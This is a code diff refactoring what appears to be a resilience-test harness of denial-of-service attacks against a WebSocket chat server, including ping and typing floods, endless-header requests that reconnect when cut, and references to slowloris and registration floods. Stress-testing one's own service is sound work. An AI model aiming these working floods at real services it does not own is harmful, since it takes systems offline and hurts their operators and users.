@@ -158,74 +158,107 @@ def abort(writer: asyncio.StreamWriter) -> None:
 # -- the attacks -------------------------------------------------------------------
 
 
+async def flood_sockets(
+    job: Job, count: int, chunk: bytes, token: str = "", read: bool = True
+) -> dict[str, Any]:
+    """`count` sockets on `general` writing `chunk` over and over until the deadline; one
+    the server cuts is opened again at once, as an attacker would."""
+    sent = [0]
+    ends = Counts()
+    opened = 0
+
+    async def worker() -> None:
+        nonlocal opened
+        while job.left() > 0:
+            writer: asyncio.StreamWriter | None = None
+            closing: asyncio.Task[str] | None = None
+            try:
+                if read:
+                    reader, writer, status = await open_socket(job, "/ws/rooms/general", token)
+                    if " 101 " not in f"{status} ":
+                        ends.add(status)
+                        await asyncio.sleep(0.05)
+                        continue
+                    # What the server sends is read and dropped: only the flood weighs.
+                    closing = asyncio.create_task(close_code(reader))
+                else:
+                    _reader, writer = await job.connect()
+                    # Nothing the server sends is read: its answers stay on its side.
+                    assert isinstance(writer.transport, asyncio.Transport)
+                    writer.transport.pause_reading()
+                    writer.write(upgrade_request(job, "/ws/rooms/general", token))
+                opened += 1
+                if await pump(writer, chunk, job, sent):
+                    return
+                if closing is not None:
+                    with contextlib.suppress(TimeoutError):
+                        await asyncio.wait_for(asyncio.shield(closing), 0.5)
+                ends.add(closing.result() if closing and closing.done() else "cut")
+            except (OSError, TimeoutError, asyncio.IncompleteReadError):
+                ends.add("refused")
+                await asyncio.sleep(0.05)
+            finally:
+                if closing is not None:
+                    closing.cancel()
+                if writer is not None:
+                    abort(writer)
+
+    await asyncio.gather(*(worker() for _ in range(count)))
+    return {"sockets": count, "opened": opened, "sent_bytes": sent[0], "ends": ends.by_kind}
+
+
 async def ping_flood(job: Job) -> dict[str, Any]:
     """Sockets without a token on a room send pings as fast as they can, reading nothing."""
-    chunk = client_frame(0x9, b"p" * 125) * 512
-    sent = [0]
-    writers: list[asyncio.StreamWriter] = []
-
-    async def one() -> bool:
-        _reader, writer = await job.connect()
-        writers.append(writer)
-        # Nothing the server sends is read: its pongs and its close stay on its side.
-        assert isinstance(writer.transport, asyncio.Transport)
-        writer.transport.pause_reading()
-        writer.write(upgrade_request(job, "/ws/rooms/general"))
-        return await pump(writer, chunk, job, sent)
-
-    try:
-        outcomes = await asyncio.gather(
-            *(one() for _ in range(PING_SOCKETS)), return_exceptions=True
-        )
-    finally:
-        for writer in writers:
-            abort(writer)
-    return {
-        "sockets": PING_SOCKETS,
-        "sent_mib": sent[0] / 2**20,
-        "hung_up_by_server": sum(o is False for o in outcomes),
-        "failed": sum(isinstance(o, BaseException) for o in outcomes),
-    }
+    return await flood_sockets(job, PING_SOCKETS, client_frame(0x9, b"p" * 125) * 512, read=False)
 
 
 async def endless_headers(job: Job) -> dict[str, Any]:
-    """One request whose header lines never end, up to HEADER_BYTES_CAP bytes."""
-    reader, writer = await job.connect()
-    answer: list[bytes] = []
-
-    async def read_answer() -> None:
-        with contextlib.suppress(OSError):
-            while data := await reader.read(65536):
-                if not answer:
-                    answer.append(data.split(b"\r\n", 1)[0])
-
-    answering = asyncio.create_task(read_answer())
-    line = b"X-Pad: " + b"a" * 1015 + b"\r\n"
-    chunk = line * 64
+    """A request whose header lines never end, up to HEADER_BYTES_CAP bytes in all, then
+    held open; one the server cuts is started again on a new connection."""
+    chunk = (b"X-Pad: " + b"a" * 1015 + b"\r\n") * 64
     sent = 0
-    hung_up = False
-    try:
-        writer.write(f"GET /healthz HTTP/1.1\r\nHost: {job.host}\r\n".encode())
-        async with asyncio.timeout(job.left()):
+    answers = Counts()
+
+    async def one() -> None:
+        nonlocal sent
+        reader, writer = await job.connect()
+        first: list[bytes] = []
+
+        async def read_answer() -> None:
+            with contextlib.suppress(OSError):
+                while data := await reader.read(65536):
+                    if not first:
+                        first.append(data.split(b"\r\n", 1)[0])
+
+        answering = asyncio.create_task(read_answer())
+        try:
+            writer.write(f"GET /healthz HTTP/1.1\r\nHost: {job.host}\r\n".encode())
             while sent < HEADER_BYTES_CAP and not answering.done():
                 writer.write(chunk)
                 await writer.drain()
                 sent += len(chunk)
-        # Past the cap, the unfinished request is held open until the deadline.
-        await asyncio.wait_for(asyncio.shield(answering), job.left())
-    except TimeoutError:
-        pass
-    except OSError:
-        hung_up = True
-    finally:
-        hung_up = hung_up or answering.done()
-        answering.cancel()
-        abort(writer)
-    return {
-        "sent_mib": sent / 2**20,
-        "hung_up_by_server": hung_up,
-        "answer": answer[0].decode(errors="replace") if answer else None,
-    }
+            # Past the cap, the unfinished request is held open until the deadline.
+            await asyncio.shield(answering)
+        except OSError:
+            pass
+        finally:
+            ended = answering.done()
+            answering.cancel()
+            abort(writer)
+            if first:
+                answers.add(first[0].decode(errors="replace"))
+            else:
+                answers.add("cut, no answer" if ended else "held to the end")
+
+    with contextlib.suppress(TimeoutError):
+        async with asyncio.timeout(job.left()):
+            while True:
+                try:
+                    await one()
+                except (OSError, TimeoutError):
+                    answers.add("refused")
+                await asyncio.sleep(0.05)
+    return {"sent_mib": sent / 2**20, "answers": answers.by_kind}
 
 
 async def slowloris(job: Job) -> dict[str, Any]:
@@ -312,41 +345,13 @@ async def register_flood(job: Job) -> dict[str, Any]:
     return {"answers": counts.by_kind, "created": counts.by_kind.get("201", 0)}
 
 
+TYPING_FRAME = client_frame(0x1, b'{"type":"typing"}')
+
+
 async def typing_flood(job: Job) -> dict[str, Any]:
     """Signed-in sockets sending typing frames as fast as they can."""
-    chunk = client_frame(0x1, b'{"type":"typing"}') * 2048
-    sent = [0]
-    writers: list[asyncio.StreamWriter] = []
-    closes: list[asyncio.Task[str]] = []
-
-    async def one() -> bool:
-        reader, writer, status = await open_socket(job, "/ws/rooms/general", job.token)
-        writers.append(writer)
-        if " 101 " not in f"{status} ":
-            raise RuntimeError(status)
-        # Read (and drop) what the server sends, so that only the typing frames weigh.
-        closes.append(asyncio.create_task(close_code(reader)))
-        return await pump(writer, chunk, job, sent)
-
-    try:
-        outcomes = await asyncio.gather(
-            *(one() for _ in range(TYPING_SOCKETS)), return_exceptions=True
-        )
-    finally:
-        for writer in writers:
-            abort(writer)
-    codes = Counts()
-    for task in closes:
-        if task.done():
-            codes.add(task.result())
-        task.cancel()
-    return {
-        "sockets": TYPING_SOCKETS,
-        "frames": sent[0] // (len(chunk) // 2048),
-        "hung_up_by_server": sum(o is False for o in outcomes),
-        "close_codes": codes.by_kind,
-        "failed": sum(isinstance(o, BaseException) for o in outcomes),
-    }
+    result = await flood_sockets(job, TYPING_SOCKETS, TYPING_FRAME * 2048, job.token)
+    return {**result, "frames": result["sent_bytes"] // len(TYPING_FRAME)}
 
 
 async def long_usernames(job: Job) -> dict[str, Any]:
